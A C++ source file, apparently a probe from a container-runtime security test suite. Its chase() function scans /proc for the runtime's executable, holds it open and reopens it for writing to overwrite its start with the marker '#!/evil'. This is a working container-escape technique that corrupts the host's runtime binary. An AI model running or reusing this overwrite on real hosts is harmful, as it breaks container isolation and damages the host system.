// Inside a container whose runtime joins it, or waits in it: every process that appears is looked at at once, and the file that
// it executes, where it is the runtime's, is opened, to be opened again for writing when nobody executes it any more.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <set>
#include <vector>

#include "hostile.h"

namespace hostile {

namespace {

using Clock = std::chrono::steady_clock;

std::vector<std::string> others() {
  std::vector<std::string> found;
  DIR* directory = ::opendir("/proc");
  if (directory == nullptr) return found;
  while (const dirent* entry = ::readdir(directory))
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && std::atoi(entry->d_name) != ::getpid())
      found.emplace_back(entry->d_name);
  ::closedir(directory);
  return found;
}

bool is_runtime(int fd, dev_t device, ino_t inode) {
  struct stat info {};
  return ::fstat(fd, &info) == 0 && info.st_dev == device && info.st_ino == inode;
}

}  // namespace

// chase DEVICE INODE SECONDS: of the runtime's file, as stat(1) has them. "exe seen" for each opened, "exe WRITTEN" where it
// could be changed.
int chase(Words words) {
  if (words.size() != 3) return 64;
  const auto device = static_cast<dev_t>(std::strtoull(words[0], nullptr, 10));
  const auto inode = static_cast<ino_t>(std::strtoull(words[1], nullptr, 10));
  const auto until = Clock::now() + std::chrono::seconds(std::atoi(words[2]));
  std::vector<int> held;
  std::set<std::string> seen;
  say("ready");
  while (Clock::now() < until) {
    for (const std::string& pid : others()) {
      const int fd = ::open(("/proc/" + pid + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (!is_runtime(fd, device, inode) || held.size() > 100) {
        ::close(fd);
        continue;
      }
      held.push_back(fd);
      if (seen.insert(pid).second) say("exe seen " + pid);
    }
    for (const int fd : held) {
      const int again = ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
      if (again < 0) continue;
      const ssize_t written = ::pwrite(again, "#!/evil", 7, 0);
      say(written == 7 ? "exe WRITTEN" : "exe opened for writing");
      return 0;
    }
  }
  say("end");
  return 0;
}

}  // namespace hostile
